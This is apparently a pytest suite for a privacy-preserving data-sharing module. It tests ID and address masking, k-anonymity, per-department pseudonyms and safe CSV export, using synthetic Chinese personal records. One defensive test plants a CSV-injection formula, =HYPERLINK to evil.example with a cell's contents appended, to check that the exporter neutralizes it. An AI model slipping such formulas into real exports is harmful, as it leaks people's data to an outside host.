"""Department views: policy validation, whole-export privacy check, masks, exports."""

from __future__ import annotations

import re
from pathlib import Path

import pandas as pd
import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from linkage import schema
from linkage.errors import ConfigError, InputError
from linkage.share import (
    DEFAULT_POLICY_PATH,
    EXPORT_FLAGS,
    GRANTABLE_FIELDS,
    MASK_LEVELS,
    PERSONS,
    PSEUDONYM_ID,
    SOURCE_RECORDS,
    SOURCES,
    describe_policy,
    effective_department,
    export_view,
    load_policy,
    mask_values,
    policy_from_dict,
    view_rows,
    write_export,
)

KEY = b"pseudonym-key-for-tests"
SHIPPED = yaml.safe_load(Path(DEFAULT_POLICY_PATH).read_text(encoding="utf-8"))


def _golden() -> pd.DataFrame:
    rows = [
        ("I1", "欧阳娜娜", "110105194912310021", "F", "1949-12-31", "汉族", "13812341234",
         "北京市朝阳区建国路88号", "广东省深圳市龙岗区坂田街道翠竹街205号"),
        ("I2", "张伟", "44030419851107123X", "M", "1985-11-07", "汉族", "075512345678",
         "广东省深圳市福田区华强北路1号", "广东省深圳市南山区科技园1栋"),
        ("I3", "买买提·艾力", "650102199001011237", "M", "1990-01-01", "维吾尔族", None,
         "新疆乌鲁木齐市天山区人民路5号", None),
        ("I4", "李娜", "4403041985110", "F", "1985年", None, "12345",
         "火星基地", "湖北省武汉市武昌区中山路1号"),
        ("I5", None, None, None, None, None, None, None, None),
    ]  # fmt: skip
    fields = [schema.IDENTITY_ID, *GRANTABLE_FIELDS]
    golden = pd.DataFrame(rows, columns=fields)
    golden["records"] = 1
    golden["conflicts"] = "birth_date=1949-12-31|1950-12-31"
    golden[schema.NAME + "_source"] = "police"
    return golden


def _links() -> pd.DataFrame:
    rows = [
        ("police", "JZ1", "I1"), ("health", "H1", "I1"), ("civil_affairs", "MZ1", "I1"),
        ("police", "JZ2", "I2"), ("police", "JZ3", "I2"), ("health", "H2", "I3"),
        ("civil_affairs", "MZ4", "I4"), ("health", "H5", "I5"),
    ]  # fmt: skip
    return pd.DataFrame(rows, columns=[schema.SOURCE, schema.RECORD_ID, schema.IDENTITY_ID])


def _policy(dept: dict, **top) -> dict:
    return {"on_conflict": "refuse", **top, "departments": {"d": {"purpose": "测试", **dept}}}


def _allowed_columns(dept) -> set[str]:
    """Every column an export may carry, traced to the grant that allows it."""
    allowed = {EXPORT_FLAGS} | {f for f, m in dept.fields.items() if m != "drop"}
    if dept.identity == "identity_id":
        allowed.add(schema.IDENTITY_ID)
    if dept.identity == "pseudonym":
        allowed.add(PSEUDONYM_ID)
    if dept.sources:
        allowed.add(SOURCES)
    if dept.record_ids != "none":
        allowed.add(SOURCE_RECORDS)
    if dept.aggregate:
        allowed.add(PERSONS)
    return allowed


def _learnable(view: pd.DataFrame) -> dict[str, bool]:
    """What an analyst can work out from the export alone (independent of the policy code)."""
    ids = view.get(schema.ID_NUMBER, pd.Series(dtype=object)).dropna().astype(str)
    births = view.get(schema.BIRTH_DATE, pd.Series(dtype=object)).dropna().astype(str)
    hukou = view.get(schema.HUKOU_ADDRESS, pd.Series(dtype=object))
    has_id = bool(ids.size)
    longest_birth = int(births.str.len().max()) if births.size else 0
    known = [False] * 18
    for value in ids:
        for i, ch in enumerate(value[:18]):
            known[i] = known[i] or ch != "*"
    if has_id and longest_birth >= 7:  # YYYY-MM fills ID digits 7-12
        known[6:12] = [True] * 6
    if has_id and longest_birth >= 10:  # YYYY-MM-DD fills digits 7-14
        known[6:14] = [True] * 8
    return {
        # the kept check digit leaves few candidates when at most two digits are hidden
        "id_full": has_id and known[17] and 18 - sum(known) <= 2,
        "birth_date": longest_birth >= 10 or (has_id and all(known[6:14])),
        "gender": schema.GENDER in view.columns or (has_id and known[16]),
        "hukou_county": bool(hukou.notna().any()) or (has_id and all(known[:6])),
    }


@pytest.mark.parametrize("department", list(SHIPPED["departments"]))
def test_every_shipped_department_gets_only_granted_columns(department):
    policy = load_policy(DEFAULT_POLICY_PATH)
    dept = effective_department(policy, department)
    view = export_view(_golden(), _links(), policy, department, key=KEY)
    assert set(view.columns) <= _allowed_columns(dept), department
    assert "conflicts" not in view.columns and "records" not in view.columns
    assert not any(c.endswith(("_source", "_record_id")) for c in view.columns)
    granted = SHIPPED["departments"][department]["fields"]
    learnable = _learnable(view)
    if learnable["id_full"]:
        assert granted.get(schema.ID_NUMBER) == "none"
    if learnable["gender"]:
        assert granted.get(schema.GENDER) == "none"
    if SOURCE_RECORDS in view.columns and dept.record_ids == "own":
        keys = view[SOURCE_RECORDS].dropna().str.split("|").explode()
        assert keys.str.split(":").str[0].isin(dept.own_sources).all()


def _shared_id(department: str):
    """The shipped policy with the shared identity id granted to one department."""
    data = yaml.safe_load(Path(DEFAULT_POLICY_PATH).read_text(encoding="utf-8"))
    data["departments"][department]["identity"] = "identity_id"
    return policy_from_dict(data)


def test_health_view_masks_as_configured():
    policy = _shared_id("health")
    view = export_view(_golden(), _links(), policy, "health").set_index(schema.IDENTITY_ID)
    assert view.loc["I1", schema.ID_NUMBER] == "110105" + "*" * 12
    assert view.loc["I1", schema.HUKOU_ADDRESS] == "北京市朝阳区"
    assert view.loc["I1", SOURCE_RECORDS] == "health:H1"
    assert pd.isna(view.loc["I2", SOURCE_RECORDS])  # no health record: nothing to show
    assert view.loc["I1", SOURCES] == "civil_affairs|health|police"
    # a malformed ID and an unplaceable address become null with a flag, the row stays
    assert pd.isna(view.loc["I4", schema.ID_NUMBER])
    assert "id_number_unmaskable" in view.loc["I4", EXPORT_FLAGS]
    assert "hukou_address_unmaskable" in view.loc["I4", EXPORT_FLAGS]
    assert len(view) == len(_golden())


@pytest.mark.parametrize(
    ("field", "mask", "value", "expected"),
    [
        (schema.ID_NUMBER, "first6_last4", "110105194912310021", "110105********0021"),
        (schema.ID_NUMBER, "first6_last4", "44030419851107123X", "440304********123X"),
        (schema.PHONE, "first3_last4", "13812341234", "138****1234"),
        (schema.PHONE, "first3_last4", "075512345678", "075*****5678"),
        (schema.NAME, "surname_only", "张伟", "张*"),
        (schema.NAME, "surname_only", "欧阳娜娜", "欧阳*"),
        (schema.NAME, "surname_only", "买买提·艾力", "买*"),
        (schema.BIRTH_DATE, "year", "1985-11-07", "1985"),
        (schema.BIRTH_DATE, "year_month", "1985-11-07", "1985-11"),
        (schema.CURRENT_ADDRESS, "district", "广东省深圳市南山区科技园1栋", "广东省深圳市南山区"),
    ],
)
def test_masks(field, mask, value, expected):
    masked, failed = mask_values(pd.Series([value, None]), field, mask)
    assert masked.tolist() == [expected, None]
    assert failed.tolist() == [False, False]


@pytest.mark.parametrize("birth", ["none", "year_month"])
def test_id_mask_next_to_birth_date_is_refused(birth):
    data = _policy({"fields": {"id_number": "first6_last4", "birth_date": birth, "gender": "none"}})
    with pytest.raises(ConfigError) as err:
        policy_from_dict(data, path="sharing.yaml")
    text = str(err.value)
    assert "sharing.yaml" in text and "departments.d.fields" in text
    assert "department 'd'" in text and "id_number" in text and "birth_date" in text


def test_coarsen_reduces_birth_date_to_year():
    fields = {"id_number": "first6_last4", "birth_date": "none", "gender": "none"}
    # min_cell 1: five rows of microdata would otherwise all be k-anonymity suppressed
    data = _policy(
        {"fields": {**fields, "hukou_address": "district"}}, on_conflict="coarsen", min_cell=1
    )
    policy = policy_from_dict(data)
    assert effective_department(policy, "d").fields[schema.BIRTH_DATE] == "year"
    view = export_view(_golden(), _links(), policy, "d", key=KEY)
    assert view[schema.BIRTH_DATE].dropna().str.len().max() == 4
    assert "110105********0021" in set(view[schema.ID_NUMBER])


def test_id_mask_reveals_gender_and_hukou_county():
    fields = {"id_number": "first6_last4", "hukou_address": "district"}
    with pytest.raises(ConfigError, match="gender"):
        policy_from_dict(_policy({"fields": fields}))
    coarse = policy_from_dict(_policy({"fields": fields, "on_conflict": "coarsen"}))
    assert effective_department(coarse, "d").fields[schema.ID_NUMBER] == "first6"
    with pytest.raises(ConfigError, match="hukou_address"):
        policy_from_dict(_policy({"fields": {"id_number": "first6"}}))
    # a full ID is the birth date: granting it without the birth date is refused
    with pytest.raises(ConfigError, match="birth_date"):
        policy_from_dict(
            _policy({"fields": {"id_number": "none", "gender": "none", "hukou_address": "none"}})
        )


@pytest.mark.parametrize(
    ("dept", "key"),
    [
        ({"fields": {"nickname": "none"}}, "departments.d.fields"),
        ({"fields": {"phone": "year"}}, "departments.d.fields"),
        ({"fields": {"name": "none"}, "colour": "red"}, "departments.d.colour"),
        ({"fields": {"gender": "none"}, "aggregate": True}, "departments.d"),
        ({"fields": {"name": "none"}, "record_ids": "own"}, "departments.d"),
        ({"fields": {"name": "none"}, "identity": "nobody"}, "departments.d.identity"),
        # former names are matched only for a department that sees names whole
        ({"fields": {"name": "surname_only"}, "former_names": True}, "departments.d"),
        ({"fields": {"gender": "none"}, "former_names": True}, "departments.d"),
    ],
)
def test_bad_policy_names_file_and_key(dept, key):
    with pytest.raises(ConfigError) as err:
        policy_from_dict(_policy(dept), path="sharing.yaml")
    assert "sharing.yaml" in str(err.value) and f"'{key}" in str(err.value)


def test_unknown_department_and_missing_file():
    policy = load_policy(DEFAULT_POLICY_PATH)
    with pytest.raises(ConfigError, match="departments.tax"):
        export_view(_golden(), _links(), policy, "tax")
    with pytest.raises(ConfigError, match="file not found"):
        load_policy("/nonexistent/sharing.yaml")


def test_pseudonyms_are_keyed_and_stable(monkeypatch):
    policy = policy_from_dict(_policy({"fields": {"gender": "none"}, "identity": "pseudonym"}))
    a = export_view(_golden(), _links(), policy, "d", key=KEY)
    b = export_view(_golden(), _links(), policy, "d", key=KEY)
    c = export_view(_golden(), _links(), policy, "d", key=b"other")
    assert schema.IDENTITY_ID not in a.columns
    assert a[PSEUDONYM_ID].equals(b[PSEUDONYM_ID])
    assert not set(a[PSEUDONYM_ID]) & set(c[PSEUDONYM_ID])
    assert a[PSEUDONYM_ID].is_unique and not a[PSEUDONYM_ID].isin(_golden()["identity_id"]).any()
    monkeypatch.delenv("LINKAGE_PSEUDONYM_KEY", raising=False)
    with pytest.raises(ConfigError, match="LINKAGE_PSEUDONYM_KEY"):
        export_view(_golden(), _links(), policy, "d")
    monkeypatch.setenv("LINKAGE_PSEUDONYM_KEY", "k")
    assert len(export_view(_golden(), _links(), policy, "d")) == 5


def test_aggregate_counts_and_small_cells():
    golden = pd.concat([_golden()] * 3, ignore_index=True)
    golden[schema.IDENTITY_ID] = [f"I{i}" for i in range(len(golden))]
    golden[schema.GENDER] = ["F"] * 10 + ["M"] * 2 + [None] * 3
    policy = policy_from_dict(
        _policy({"fields": {"gender": "none"}, "identity": "none", "aggregate": True}, min_cell=3)
    )
    view = export_view(golden, _links(), policy, "d")
    assert list(view.columns) == [schema.GENDER, PERSONS, EXPORT_FLAGS]
    counts = dict(zip(view[schema.GENDER].fillna("-"), view[PERSONS], strict=True))
    assert counts["F"] == 10 and pd.isna(counts["M"]) and counts["-"] == 3
    assert view.loc[view[PERSONS].isna(), EXPORT_FLAGS].eq("small_cell_suppressed").all()


def test_rows_own_keeps_identities_with_own_records():
    data = _policy(
        {
            "fields": {"name": "none"},
            "rows": "own",
            "own_sources": ["police"],
            "identity": "identity_id",
        }
    )
    view = export_view(_golden(), _links(), policy_from_dict(data), "d")
    assert view[schema.IDENTITY_ID].tolist() == ["I1", "I2"]


@pytest.mark.parametrize(
    "grant, empty",
    [({"record_ids": "own"}, "no own record ids"), ({"rows": "own"}, "no rows")],
)
def test_own_sources_the_store_lacks_are_refused_naming_both(grant, empty):
    from linkage.share.export import check_own_sources

    # registries stored under pinyin names, the policy naming the department's own
    policy = policy_from_dict(
        _policy({"fields": {"name": "none"}, "own_sources": ["health"], **grant})
    )
    with pytest.raises(ConfigError) as err:
        check_own_sources(["gongan", "weijian", "gongan"], policy, "d")
    msg = str(err.value)
    assert "departments.d.own_sources" in msg and "[health]" in msg
    assert "it holds gongan, weijian" in msg and empty in msg
    with pytest.raises(ConfigError, match="it holds no records"):
        check_own_sources([], policy, "d")


def test_own_sources_partly_in_the_store_warn_and_unused_ones_are_not_checked():
    from linkage.share.export import check_own_sources

    both = {"fields": {"name": "none"}, "record_ids": "own", "own_sources": ["health", "clinic"]}
    (line,) = check_own_sources(_links()[schema.SOURCE], policy_from_dict(_policy(both)), "d")
    assert "clinic not in the store" in line and "records of health only" in line
    one = policy_from_dict(_policy({**both, "own_sources": ["health"]}))
    assert check_own_sources(["health"], one, "d") == []
    # own_sources that neither record_ids nor rows use change nothing in the export
    unused = policy_from_dict(_policy({"fields": {"name": "none"}, "own_sources": ["nowhere"]}))
    assert check_own_sources(["police"], unused, "d") == []


def test_an_export_emptied_by_k_anonymity_is_reported_per_column():
    from linkage.share.export import K_ANONYMITY, k_anonymity_warning

    # five identities, each alone in its cell of masked fields: every row is suppressed
    grant = {"fields": {"name": "surname_only", "birth_date": "year"}, "record_ids": "own",
             "own_sources": ["health"]}  # fmt: skip
    view = export_view(_golden(), _links(), policy_from_dict(_policy(grant)), "d", key=KEY)
    assert view[EXPORT_FLAGS].str.contains("k_anonymity_suppressed").all()
    assert view.attrs[K_ANONYMITY]["rows"] == 5
    line = k_anonymity_warning(view, "d")
    assert "suppressed 5 of 5 rows (100%)" in line and "min_cell 5" in line
    assert "name 100%" in line and "birth_date 100%" in line and "docs/privacy.md" in line
    assert "grant record_ids: none" in line  # record ids make every cell a single row
    # cells that hold min_cell identities lose nothing: no warning
    loose = policy_from_dict(_policy({"fields": {"gender": "none"}}, min_cell=1))
    assert k_anonymity_warning(export_view(_golden(), _links(), loose, "d", key=KEY), "d") is None
    # a view that is not microdata (name unmasked) is not k-anonymized at all
    named = policy_from_dict(_policy({"fields": {"name": "none"}}))
    assert k_anonymity_warning(export_view(_golden(), _links(), named, "d", key=KEY), "d") is None


def test_a_parquet_export_carries_no_frame_attrs(tmp_path):
    import pyarrow.parquet as pq

    grant = {"fields": {"name": "surname_only", "birth_date": "year"}}
    view = export_view(_golden(), _links(), policy_from_dict(_policy(grant)), "d", key=KEY)
    assert view.attrs  # the suppression report, for the command line only
    metadata = pq.read_schema(write_export(view, tmp_path / "v.parquet")).metadata
    assert b"PANDAS_ATTRS" not in metadata and b"k_anonymity" not in metadata[b"pandas"]


def test_write_export(tmp_path):
    policy = load_policy(DEFAULT_POLICY_PATH)
    view = export_view(_golden(), _links(), policy, "health", key=KEY)
    csv = write_export(view, tmp_path / "health.csv")
    parquet = write_export(view, tmp_path / "out" / "health.parquet")
    back = pd.read_csv(csv, dtype=str, keep_default_na=False)
    assert back[schema.NAME].tolist() == view[schema.NAME].fillna("").tolist()
    assert set(back[schema.NAME]) >= {"欧阳娜娜", "张伟", "买买提·艾力"}
    assert pd.read_parquet(parquet).equals(view)
    with pytest.raises(InputError):
        write_export(view, tmp_path / "health.xlsx")
    assert not list(tmp_path.glob(".*.tmp"))


GRANT = st.dictionaries(
    st.sampled_from(GRANTABLE_FIELDS),
    st.sampled_from(sorted({m for v in MASK_LEVELS.values() for m in v})),
)


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    fields=GRANT,
    identity=st.sampled_from(["identity_id", "pseudonym", "none"]),
    sources=st.booleans(),
    record_ids=st.sampled_from(["none", "own", "all"]),
    mode=st.sampled_from(["refuse", "coarsen"]),
)
def test_random_policies_never_leak(fields, identity, sources, record_ids, mode):
    fields = {f: m for f, m in fields.items() if m in MASK_LEVELS[f]}
    dept = {
        "fields": fields,
        "identity": identity,
        "sources": sources,
        "record_ids": record_ids,
        "own_sources": ["health"],
    }
    try:
        policy = policy_from_dict(_policy(dept, on_conflict=mode))
    except ConfigError:
        assert mode == "refuse"  # coarsen always finds a safe view
        return
    view = export_view(_golden(), _links(), policy, "d", key=KEY)
    assert set(view.columns) <= _allowed_columns(policy.departments["d"])
    assert set(view.columns) - {EXPORT_FLAGS, SOURCES, SOURCE_RECORDS, PSEUDONYM_ID} <= (
        set(fields) | {schema.IDENTITY_ID}
    )
    granted = {f: MASK_LEVELS[f].index(m) for f, m in fields.items()}
    learnable = _learnable(view)
    if learnable["id_full"]:
        assert fields.get(schema.ID_NUMBER) == "none"
    if learnable["birth_date"]:
        assert fields.get(schema.BIRTH_DATE) == "none"
    if learnable["gender"]:
        assert granted.get(schema.GENDER, 0) >= 1
    if learnable["hukou_county"]:
        assert granted.get(schema.HUKOU_ADDRESS, 0) >= 1
    for field in fields:
        if field in view.columns and field in (schema.ID_NUMBER, schema.PHONE):
            stars = view[field].dropna().astype(str)
            if fields[field] != "none":
                assert stars.str.contains(r"\*").all()
    assert re.fullmatch(r"[a-z_|]*", "|".join(view[EXPORT_FLAGS]))


def test_describe_policy_lists_effective_masks():
    table = describe_policy(load_policy(DEFAULT_POLICY_PATH))
    assert list(table["department"]) == list(SHIPPED["departments"])
    health = table.set_index("department").loc["health"]
    assert "id_number:first6" in health["fields"] and health["record_ids"] == "own"


# --- exports cannot be joined into more than any department is granted ---


def test_departments_get_unlinkable_pseudonyms_by_default():
    policy = load_policy(DEFAULT_POLICY_PATH)
    health = export_view(_golden(), _links(), policy, "health", key=KEY)
    social = export_view(_golden(), _links(), policy, "social_security", key=KEY)
    assert schema.IDENTITY_ID not in health.columns and schema.IDENTITY_ID not in social.columns
    assert not set(health[PSEUDONYM_ID]) & set(social[PSEUDONYM_ID])
    again = export_view(_golden(), _links(), policy, "health", key=KEY)
    assert again[PSEUDONYM_ID].equals(health[PSEUDONYM_ID])  # stable for one key
    assert not set(health[PSEUDONYM_ID]) & set(_golden()[schema.IDENTITY_ID])


def _two(first: dict, second: dict) -> dict:
    return {"departments": {"a": {"purpose": "p", **first}, "b": {"purpose": "p", **second}}}


def test_joined_exports_that_rebuild_an_id_are_refused():
    # one gets the region code and the full birth date, the other region code and last four
    county = {"hukou_address": "district"}
    first = {
        "fields": {"id_number": "first6", "birth_date": "none", **county},
        "identity": "identity_id",
    }
    second = {
        "fields": {"id_number": "first6_last4", "birth_date": "year", "gender": "none", **county},
        "identity": "identity_id",
    }
    with pytest.raises(ConfigError, match=r"a, b can join .* identity_id.*id_number as 'none'"):
        policy_from_dict(_two(first, second))
    # the same grants under per-department pseudonyms cannot be joined: accepted
    first["identity"] = second["identity"] = "pseudonym"
    policy_from_dict(_two(first, second))
    # record ids of a common registry join as well as a shared id does
    first["record_ids"] = second["record_ids"] = "all"
    with pytest.raises(ConfigError, match="source record ids"):
        policy_from_dict(_two(first, second))
    first["record_ids"], first["own_sources"] = "own", ["health"]
    second["record_ids"], second["own_sources"] = "own", ["police"]
    policy_from_dict(_two(first, second))


def test_joined_exports_within_grants_are_accepted():
    same = {"fields": {"name": "none", "birth_date": "year"}, "identity": "identity_id"}
    policy = policy_from_dict(_two(same, dict(same)))
    assert policy.departments["a"].identity == "identity_id"


def test_shipped_policy_has_no_cross_department_join():
    from linkage.share import cross_department_conflicts, join_keys

    policy = load_policy(DEFAULT_POLICY_PATH)
    assert cross_department_conflicts(policy) == []
    names = list(policy.departments)
    assert all(not join_keys(policy, a, b) for a in names for b in names if a < b)


def test_formula_cells_are_neutralized_in_csv_but_not_parquet(tmp_path):
    golden = _golden()
    golden.loc[0, schema.CURRENT_ADDRESS] = '=HYPERLINK("http://evil.example/?d="&B2,"x")'
    golden.loc[1, schema.NAME] = "@SUM(A1)"
    golden.loc[1, schema.PHONE] = "+86 138 0013 8000"
    policy = _shared_id("police")
    view = export_view(golden, _links(), policy, "police")
    back = pd.read_csv(write_export(view, tmp_path / "p.csv"), dtype=str, keep_default_na=False)
    assert back[schema.CURRENT_ADDRESS].iloc[0] == "'" + golden.loc[0, schema.CURRENT_ADDRESS]
    assert back[schema.NAME].iloc[1] == "'@SUM(A1)"
    assert back[schema.PHONE].iloc[1] == "+86 138 0013 8000"  # a signed number stays
    assert not any(str(v).startswith(("=", "@")) for v in back.to_numpy().ravel())
    raw = pd.read_parquet(write_export(view, tmp_path / "p.parquet"))
    assert raw[schema.CURRENT_ADDRESS].iloc[0].startswith("=HYPERLINK")


def test_public_surface_is_pinned_and_the_default_policy_ships_in_the_package():
    import linkage
    import linkage.share as share

    assert share.__all__ == [
        "DEFAULT_POLICY_PATH",
        "EXPORT_FLAGS",
        "GRANTABLE_FIELDS",
        "MASK_LEVELS",
        "PERSONS",
        "PSEUDONYM_ID",
        "SOURCES",
        "SOURCE_RECORDS",
        "DepartmentPolicy",
        "SharingPolicy",
        "cross_department_conflicts",
        "department_key",
        "describe_policy",
        "disclosed_levels",
        "effective_department",
        "export_view",
        "join_keys",
        "load_policy",
        "mask_list",
        "mask_values",
        "policy_from_dict",
        "pseudonymize",
        "view_rows",
        "write_export",
    ]
    package = Path(linkage.__file__).resolve().parent
    assert Path(DEFAULT_POLICY_PATH).resolve().is_relative_to(package / "data")
    assert Path(DEFAULT_POLICY_PATH).is_file()


def test_small_link_tables_give_the_same_record_lists_as_duckdb(monkeypatch):
    import numpy as np

    import linkage.share.export as share_module
    from linkage.share.policy import DepartmentPolicy

    rng = np.random.default_rng(0)
    links = pd.DataFrame(
        {
            schema.SOURCE: rng.choice(["police", "health", "民政"], 300),
            schema.RECORD_ID: [f"R{rng.integers(10**6)}" for _ in range(300)],
            schema.IDENTITY_ID: rng.choice([f"ID{i}" for i in range(40)], 300),
        }
    )
    ids = pd.Series([f"ID{i}" for i in range(45)])
    dept = DepartmentPolicy(purpose="x", record_ids="all", sources=True)
    small = share_module._link_columns(ids, links, dept)
    monkeypatch.setattr(share_module, "_SMALL_LINKS", 0)
    large = share_module._link_columns(ids, links, dept)
    assert small[0].equals(large[0]) and small[1].equals(large[1])
    assert (small[2] == large[2]).all() and small[1].notna().sum() == 40


def _rows_of(view: pd.DataFrame) -> list[dict]:
    return [
        {k: (None if pd.isna(v) else v) for k, v in row.items()}
        for row in view.to_dict("records")
    ]


def _view_rows_input(golden: pd.DataFrame, links: pd.DataFrame):
    rows = [
        {k: (None if pd.isna(v) else v) for k, v in g.items()} for g in golden.to_dict("records")
    ]
    return rows, list(links.itertuples(index=False, name=None))


@pytest.mark.parametrize("department", sorted(SHIPPED["departments"]))
def test_view_rows_equal_export_view_for_shipped_departments(department):
    from linkage.share.export import is_microdata

    policy = load_policy(DEFAULT_POLICY_PATH)
    golden, links = _golden(), _links()
    # more rows than the fixture: an identity without links, a blank and an unmaskable value
    extra = golden.iloc[[0, 3]].copy()
    extra[schema.IDENTITY_ID] = ["I6", "I7"]
    extra[schema.PHONE] = ["  ", "1380013800x"]
    golden = pd.concat([golden, extra], ignore_index=True)
    rows, link_rows = _view_rows_input(golden, links)
    dept = effective_department(policy, department)
    if dept.aggregate or is_microdata(dept):
        with pytest.raises(ValueError, match="no per-identity lookup view"):
            view_rows(rows, link_rows, policy, department, key=KEY)
        return
    expected = export_view(golden, links, policy, department, key=KEY, keyed_order=False)
    got = view_rows(rows, link_rows, policy, department, key=KEY)
    assert got == _rows_of(expected)
    assert list(got[0]) == list(expected.columns)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    fields=GRANT,
    identity=st.sampled_from(["identity_id", "pseudonym"]),
    sources=st.booleans(),
    record_ids=st.sampled_from(["none", "own", "all"]),
    rows=st.sampled_from(["all", "own"]),
)
def test_view_rows_equal_export_view_for_random_policies(fields, identity, sources, record_ids, rows):
    from linkage.share.export import is_microdata

    fields = {f: m for f, m in fields.items() if m in MASK_LEVELS[f]}
    dept = {
        "fields": fields,
        "identity": identity,
        "sources": sources,
        "record_ids": record_ids,
        "rows": rows,
        "own_sources": ["health"],
    }
    try:
        policy = policy_from_dict(_policy(dept, on_conflict="coarsen"))
    except ConfigError:
        return
    if is_microdata(effective_department(policy, "d")):
        return
    golden, links = _golden(), _links()
    expected = export_view(golden, links, policy, "d", key=KEY, keyed_order=False)
    got = view_rows(*_view_rows_input(golden, links), policy, "d", key=KEY)
    assert got == _rows_of(expected)


def test_district_masks_equal_mask_list_of_each_value_and_feed_view_rows(tmp_path):
    """The lookup service's masks computed once per golden address give what masking each
    address alone gives, and view_rows with them gives the view it builds by parsing."""
    import io

    import numpy as np

    from linkage import synth
    from linkage.share import mask_list
    from linkage.share.export import district_masks, is_microdata

    demo = synth.generate(150, seed=3, output=tmp_path / "demo")
    values: list = []
    for path in demo.paths.values():
        if path.suffix == ".csv" and path.name != "truth.csv":
            raw = path.read_bytes()
            try:  # registries come in UTF-8 and in GB18030
                text = raw.decode("utf-8")
            except UnicodeDecodeError:
                text = raw.decode("gb18030")
            frame = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
            for column in frame.columns:
                if "地址" in column or "住址" in column or "address" in column:
                    values += frame[column].tolist()
    assert len(values) > 100
    # repeats, blanks, nulls of each kind, fillers and text cpca cannot place
    values += [None, float("nan"), pd.NA, "", "  ", "不详", "火星基地", values[0], " " + values[1]]
    codes, table = district_masks(values, schema.HUKOU_ADDRESS)
    assert codes.dtype == np.int32 and len(codes) == len(values) and table[0] == (None, False)
    assert len(table) < len(set(map(str, values)))  # distinct outcomes, not one per value
    one_by_one = [mask_list([v], schema.HUKOU_ADDRESS, "district") for v in values]
    assert [table[c] for c in codes] == [(m[0], f[0]) for m, f in one_by_one]
    assert any(bad for _, bad in table) and sum(t is not None for t, _ in table) > 3

    policy = load_policy(DEFAULT_POLICY_PATH)
    golden, links = _golden(), _links()
    rows, link_rows = _view_rows_input(golden, links)
    checked = []
    for department in policy.departments:
        effective = effective_department(policy, department)
        masked = [f for f, m in effective.fields.items() if m == "district"]
        if not masked or effective.aggregate or is_microdata(effective):
            continue
        given = {}
        for f in masked:
            codes, table = district_masks(golden[f].tolist(), f)
            given[f] = [table[c] for c in codes]
        expected = view_rows(rows, link_rows, policy, department, key=KEY)
        assert view_rows(rows, link_rows, policy, department, key=KEY, districts=given) == expected
        # the given masks are what the view shows (the addresses are not parsed again)
        marked = {f: [("某区", True)] * len(rows) for f in masked}
        got = view_rows(rows, link_rows, policy, department, key=KEY, districts=marked)
        assert all(r[f] == "某区" and f + "_unmaskable" in r["export_flags"] for r in got for f in masked)
        checked.append(department)
    assert checked
    # export_view takes the same masks (the lookup service's microdata view), rows-own too
    microdata = []
    for department in [*policy.departments, "own_only"]:
        if department == "own_only":
            own = policy.departments["health"].model_copy(update={"rows": "own"})
            policy = policy.model_copy(
                update={"departments": {**policy.departments, "own_only": own}}
            )
        effective = effective_department(policy, department)
        masked = [f for f, m in effective.fields.items() if m == "district"]
        if not masked or effective.aggregate:
            continue
        given = {}
        for f in masked:
            codes, table = district_masks(golden[f].tolist(), f)
            given[f] = [table[c] for c in codes]
        expected = export_view(golden, links, policy, department, key=KEY, keyed_order=False)
        got = export_view(
            golden, links, policy, department, key=KEY, keyed_order=False, districts=given
        )
        pd.testing.assert_frame_equal(got, expected)
        marked = {f: [("某区", True)] * len(golden) for f in masked}
        got = export_view(
            golden, links, policy, department, key=KEY, keyed_order=False, districts=marked
        )
        if not is_microdata(effective):  # k-anonymity may suppress the given text
            assert (got[masked] == "某区").all().all()
        assert got["export_flags"].str.contains(f"{masked[0]}_unmaskable").any()
        microdata += [department] if is_microdata(effective) else []
    assert microdata and "own_only" not in microdata
    with pytest.raises(ValueError, match="one mask per golden row"):
        export_view(golden, links, policy, "health", key=KEY, districts={masked[0]: []})
